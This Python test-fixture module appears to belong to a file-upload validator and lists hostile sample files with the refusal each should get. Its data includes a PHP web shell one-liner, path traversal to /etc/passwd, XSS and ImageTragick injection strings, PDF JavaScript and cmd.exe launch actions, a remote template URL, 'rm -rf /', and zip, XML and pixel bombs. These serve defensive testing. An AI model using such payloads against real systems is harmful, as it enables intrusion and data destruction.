"""Hostile files: each with its name, its bytes, and what happens.

What happens is part of the refusal, or `Kept` under a name: then it lies there, inert.
"""

import warnings
import zlib
from dataclasses import dataclass

from . import papers
from .papers import compound, office, packed, pdf, picture, png_of, zipped

NOT_TAKEN, OTHER, PROGRAM, BROKEN = "不收的文件类型", "改过扩展名", "程序的扩展名", "不完整"
MACRO, EMPTY, ACTIVE, STRUCTURE = "宏", "空文件", "脚本或者会自动执行", "内部结构"


@dataclass(frozen=True)
class Kept:
    name: str


PDF, JPG = pdf(), picture("JPEG")
EXE = b"MZ\x90\0" + bytes(60) + b"PE\0\0" + bytes(200)
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
HTML = b"<html><script>alert(document.cookie)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
GIF_JS = b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)//"
PHP = b"<?php system($_GET['c']); ?>"
LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>'
JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
AFAR = (
    '<Relationships><Relationship Id="r" TargetMode="External" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    'Target="https://example.org/evil.dotm"/></Relationships>'
)
LINKS = {  # as whoever opens the file reads them
    "quotes": AFAR.replace('"', "'"),
    "blanks": AFAR.replace("=", " = "),
    "letter": AFAR.replace("https", "&#104;ttps"),
    "utf16": f'<?xml version="1.0" encoding="utf-16"?>{AFAR}'.encode("utf-16"),
    "prefix": AFAR.replace("<R", "<a:R")
    .replace("</R", "</a:R")
    .replace("hips>", 'hips xmlns:a="b">', 1),
    "share": AFAR.replace("https://example.org", "file:////example.org/a"),
    "help": AFAR.replace("https:", "mhtml:https:"),
}
TYPES = "[Content_Types].xml"
MACRO_TYPES = (
    f'<Types><Override PartName="/word/document.xml" ContentType="{papers.MAINS["docx"][1]}"/>'
    '<Default Extension="dat" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
)
DAMAGED = zipped({"[Content_Types].xml": "x"}, 0).replace(b"xPK", b"yPK")
BOMB = zipped({"佐证.pdf": bytes(90 * 1024 * 1024)})
ZTXT = papers.png_chunk(b"zTXt", b"k\0\0" + zlib.compress(bytes(80_000_000)))


def _twice():
    with warnings.catch_warnings(action="ignore"):
        out = papers.io.BytesIO()
        with papers.zipfile.ZipFile(out, "w") as into:
            into.writestr("佐证.pdf", PDF)
            into.writestr("佐证.pdf", EXE)
    return out.getvalue()


NAMES = [
    ("right_to_left", "报告\u202efdp.exe", EXE, NOT_TAKEN),
    ("right_to_left_picture", "照片\u202egpj.scr", EXE, NOT_TAKEN),
    ("right_to_left_but_sound", "报告\u202e\u2066终稿.pdf", PDF, Kept("报告终稿.pdf")),
    ("unseen_marks", "报\u200b\u200d告\ufeff.pdf", PDF, Kept("报告.pdf")),
    ("up_the_folders", "../../../etc/passwd", b"root:x:0:0", NOT_TAKEN),
    ("up_the_folders_and_sound", "../../etc/cron.d/报告.pdf", PDF, Kept("报告.pdf")),
    ("up_the_folders_of_windows", "..\\..\\启动\\报告.pdf", PDF, Kept("报告.pdf")),
    ("from_the_root", "/var/www/报告.pdf", PDF, Kept("报告.pdf")),
    ("three_hundred_characters", "关" * 300 + ".pdf", PDF, Kept("关" * 196 + ".pdf")),
    ("long_extension", "报告." + "长" * 300, PDF, NOT_TAKEN),
    ("nul", "报告.pdf\0.exe", EXE, NOT_TAKEN),
    ("nul_before", "报告.exe\0.pdf", PDF, PROGRAM),
    ("php_within", "照片.php.jpg", JPG, PROGRAM),
    ("php_at_the_end", "照片.jpg.php", JPG, NOT_TAKEN),
    ("stream_of_a_program", "报告.pdf:evil.exe", PDF, NOT_TAKEN),
    ("stream_within_a_program", "evil.exe:报告.pdf", PDF, PROGRAM),
    ("data_stream", "照片.jpg::$DATA", JPG, NOT_TAKEN),
    ("dots_and_blanks_after", "报告.pdf . .", PDF, Kept("报告.pdf")),
    ("dot_file", ".htaccess", b"AddHandler php .jpg", NOT_TAKEN),
    ("no_extension", "报告", PDF, NOT_TAKEN),
    ("markup", "<img src=x onerror=alert(1)>.pdf", PDF, Kept("_img src=x onerror=alert(1)_.pdf")),
    ("header_lines", "报告\r\nSet-Cookie: a=b.pdf", PDF, Kept("报告Set-Cookie_ a=b.pdf")),
    ("quotes", '报"告;filename=a.exe".pdf', PDF, PROGRAM),
    ("decomposed", "re\u0301sume\u0301.pdf", PDF, Kept("résumé.pdf")),
]

KINDS = [
    ("script", "整改.js", b"alert(1)", NOT_TAKEN),
    ("svg", "图.svg", SVG, NOT_TAKEN),
    ("svg_as_png", "图.png", SVG, OTHER),
    ("html", "表.html", HTML, NOT_TAKEN),
    ("html_as_pdf", "表.pdf", HTML, OTHER),
    ("html_before_pdf", "表.pdf", HTML + PDF, OTHER),
    ("gif_that_is_script", "图.gif", GIF_JS, NOT_TAKEN),
    ("gif_that_is_script_as_jpg", "图.jpg", GIF_JS, OTHER),
    ("jpg_with_script_behind", "图.jpg", JPG + HTML, Kept("图.jpg")),
    ("jpg_with_php_behind", "图.jpg", JPG + PHP, Kept("图.jpg")),
    ("jpg_with_zip_behind", "图.jpg", JPG + zipped({"a.exe": EXE}), Kept("图.jpg")),
    ("program_as_pdf", "表.pdf", EXE, OTHER),
    ("program_as_docx", "表.docx", EXE, OTHER),
    ("elf_as_jpg", "图.jpg", b"\x7fELF" + bytes(200), OTHER),
    ("shell_as_doc", "表.doc", b"#!/bin/sh\nrm -rf /\n", OTHER),
    ("imagetragick", "图.png", b"push graphic-context\nfill 'url(https://x|ls)'\n", OTHER),
    ("postscript_as_jpg", "图.jpg", b"%!PS-Adobe\n(%pipe%id) (w) file", OTHER),
    ("eicar", "eicar.com", EICAR, NOT_TAKEN),
    ("eicar_as_pdf", "表.pdf", EICAR, OTHER),
    ("rtf_as_doc", "表.doc", rb"{\rtf1\ansi{\object\objocx}}", OTHER),
    ("mhtml_as_doc", "表.doc", b"MIME-Version: 1.0\r\nContent-Type: multipart/related", OTHER),
    ("shortcut", "表.lnk", b"L\0\0\0\x01\x14\x02\0", NOT_TAKEN),
    ("nothing", "表.pdf", b"", EMPTY),
]

PDFS = [
    ("pdf_script", "表.pdf", pdf(JS), ACTIVE),
    ("pdf_script_escaped", "表.pdf", pdf(JS.replace(b"JavaScript", b"J#61vaScr#69pt")), ACTIVE),
    ("pdf_script_packed", "表.pdf", pdf(packed(b"5 0 " + JS)), ACTIVE),
    ("pdf_script_packed_escaped", "表.pdf", pdf(packed(JS.replace(b"v", b"#76"))), ACTIVE),
    ("pdf_script_behind_a_remark", "表.pdf", pdf(b"% stream\n" + JS + b"\nendstream"), ACTIVE),
    ("pdf_launch", "表.pdf", pdf(b"<< /S /Launch /F (cmd.exe) >>"), ACTIVE),
    ("pdf_flash", "表.pdf", pdf(b"<< /Subtype /RichMedia >>"), ACTIVE),
    ("pdf_sends_away", "表.pdf", pdf(b"<< /S /SubmitForm /F (https://x) >>"), ACTIVE),
    ("pdf_xfa", "表.pdf", pdf(b"<< /XFA [(a) 4 0 R] >>"), ACTIVE),
    ("pdf_with_password", "表.pdf", pdf(trailer="/Encrypt 4 0 R"), "限制"),
    ("pdf_bomb", "表.pdf", pdf(packed(bytes(110 * 1024 * 1024))), "太大"),
    ("pdf_unreadable", "表.pdf", pdf(b"<< /Type /ObjStm >>\nstream\nxx\nendstream"), STRUCTURE),
    ("pdf_truncated", "表.pdf", PDF[:-40], BROKEN),
    ("pdf_head_only", "表.pdf", b"%PDF-1.7\n", BROKEN),
]

OFFICES = [
    ("docm", "表.docm", office("docm"), NOT_TAKEN),
    ("docm_as_docx", "表.docx", office("docm"), MACRO),
    ("docx_with_vba", "表.docx", office("docx", {"word/vbaProject.bin": b"x"}), MACRO),
    ("docx_with_control", "表.docx", office("docx", {"word/activeX/a.bin": b"x"}), MACRO),
    ("docx_from_afar", "表.docx", office("docx", {"word/_rels/settings.xml.rels": AFAR}), "别处"),
    *((f"docx_from_afar_{how}", "表.docx",
       office("docx", {"word/_rels/settings.xml.rels": links}), "别处")
      for how, links in LINKS.items()),
    ("docx_from_afar_capitals", "表.docx", office("docx", {"word/_RELS/a.xml.RELS": AFAR}), "别处"),
    ("docx_with_broken_links", "表.docx", office("docx", {"_rels/.rels": AFAR[:-9]}), STRUCTURE),
    ("docx_with_macro_of_another_name", "表.docx",
     office("docx", {"[Content_Types].xml": MACRO_TYPES}), MACRO),
    ("docx_packed_strangely", "表.docx", zipped({TYPES: "x" * 99}, 14), "压缩方式"),
    ("docx_with_package", "表.docx",
     office("docx", {"word/embeddings/o.bin": compound("\x01Ole10Native")}), "嵌着"),
    ("billion_laughs", "表.docx", office("docx", {"word/a.xml": LAUGHS}), STRUCTURE),
    ("billion_laughs_utf16", "表.docx",
     office("docx", {"word/a.xml": LAUGHS.encode("utf-16")}), STRUCTURE),
    ("docx_with_password", "表.docx", compound("EncryptedPackage", "EncryptionInfo"), OTHER),
    ("xlsx_as_docx", "表.docx", office("xlsx"), "扩展名不符"),
    ("zip_as_docx", "表.docx", zipped({"a.txt": "x"}), "扩展名不符"),
    ("zip_as_ofd", "表.ofd", zipped({"a.txt": "x"}), "扩展名不符"),
    ("docx_truncated", "表.docx", office("docx")[:-30], BROKEN),
    ("docx_damaged", "表.docx", DAMAGED, BROKEN),
    ("doc_with_macro", "表.doc", compound("WordDocument", "Macros", "VBA"), MACRO),
    ("xls_with_macro", "表.xls", compound("Workbook", "_VBA_PROJECT_CUR"), MACRO),
    ("wps_with_macro", "表.wps", compound("WordDocument", "_VBA_PROJECT"), MACRO),
    ("doc_with_package", "表.doc", compound("WordDocument", "\x01Ole10Native"), "嵌着"),
    ("xls_with_password", "表.xls", compound("Workbook", "EncryptedPackage"), "密码"),
    ("xls_as_doc", "表.doc", compound("Workbook"), "扩展名不符"),
    ("installer_as_doc", "表.doc", compound("\u4840\u3f3f"), "扩展名不符"),
    ("doc_truncated", "表.doc", compound("WordDocument", "a", "b", "c", "d")[:-512], BROKEN),
]  # fmt: skip

ZIPS = [
    ("zip_with_password", "证.zip", papers.flagged(zipped({"a.pdf": PDF}), 1), "密码"),
    ("zip_with_link", "证.zip", papers.symlink_zip(), "快捷方式"),
    ("zip_up_the_folders", "证.zip", zipped({"../../a.pdf": PDF}), "路径"),
    ("zip_up_the_folders_of_windows", "证.zip", zipped({"..\\..\\a.pdf": PDF}), "路径"),
    ("zip_from_the_root", "证.zip", zipped({"/etc/a.pdf": PDF}), "路径"),
    ("zip_in_zip", "证.zip", zipped({"内.zip": zipped({"a.pdf": PDF})}), "“内.zip”是不收"),
    ("zip_with_program", "证.zip", zipped({"运行.exe": EXE}), "“运行.exe”是不收"),
    ("zip_with_eicar", "证.zip", zipped({"eicar.com": EICAR}), "“eicar.com”是不收"),
    ("zip_with_renamed_program", "证.zip", zipped({"表.pdf": EXE}), "“表.pdf”的内容不是"),
    ("zip_bomb", "证.zip", BOMB, "展开以后太大"),
    ("zip_of_thousands", "证.zip", zipped({f"{n}.pdf": b"" for n in range(3_001)}), "太多"),
    ("zip_with_doubles", "证.zip", _twice(), "重名"),
    ("rar_as_zip", "证.zip", b"Rar!\x1a\x07\x01\0" + bytes(50), OTHER),
    ("zip_truncated", "证.zip", zipped({"a.pdf": PDF})[:-10], BROKEN),
]

PICTURES = [
    ("pixel_flood", "图.png", png_of(60_000, 60_000), "像素"),
    ("pixel_flood_beyond_pillow", "图.png", png_of(2**31 - 1, 2**31 - 1), "像素"),
    ("just_too_many_pixels", "图.png", png_of(10_000, 8_001), "像素"),
    ("text_bomb_in_png", "图.png", png_of(10, 10, ZTXT), BROKEN),
    ("png_truncated", "图.png", picture("PNG")[:-20], BROKEN),
    ("png_damaged", "图.png", picture("PNG").replace(b"IEND", b"IENX"), BROKEN),
    ("jpg_truncated", "图.jpg", JPG[: len(JPG) // 2], BROKEN),
    ("jpg_head_only", "图.jpg", JPG[:3], BROKEN),
    ("tif_truncated", "图.tif", picture("TIFF")[:-5000], BROKEN),
    ("png_as_jpg", "图.jpg", picture("PNG"), OTHER),
]
HOSTILE = [*NAMES, *KINDS, *PDFS, *OFFICES, *ZIPS, *PICTURES]
